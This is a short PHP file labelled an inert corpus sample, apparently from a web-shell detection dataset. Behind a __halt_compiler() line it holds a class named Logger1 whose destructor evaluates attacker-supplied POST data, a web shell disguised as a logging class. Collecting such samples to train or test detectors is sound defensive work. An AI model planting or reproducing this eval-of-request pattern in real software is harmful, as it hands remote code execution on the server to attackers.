<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
class Logger1 {
    public $p;
    function __destruct() {
        @eval($this->p);
    }
}
$o = new Logger1();
$o->p = $_POST['data'];
